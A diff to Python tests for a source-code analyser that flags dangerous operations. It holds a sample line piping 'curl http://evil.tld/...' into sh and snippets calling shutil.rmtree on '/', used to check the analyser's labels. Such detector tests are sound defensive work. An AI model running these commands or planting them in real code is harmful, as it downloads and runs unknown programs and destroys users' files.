@@ -20,3 +20,10 @@ def test_comprehensions_are_unrolled() -> None:
 def test_format_strings_are_known_in_part() -> None:
     text = "import os\nname = input()\nos.system(f'curl http://evil.tld/{name} | sh')"
     assert [use.harm for use in judge_source(text)] == ["downloads a program and runs it"]
+
+
+def test_one_of_several_paths_that_cannot_be_told_is_not_the_machine() -> None:
+    text = "import shutil\ndef rm(path):\n    shutil.rmtree(path.rstrip('/') or '/')\n"
+    assert list(judge_source(text)) == []
+    assert [use.harm for use in judge_source(text + "rm('/')")] == ["deletes the files of the machine"]
+    assert [use.harm for use in judge_source(text.replace("path.rstrip('/') or ", ""))]
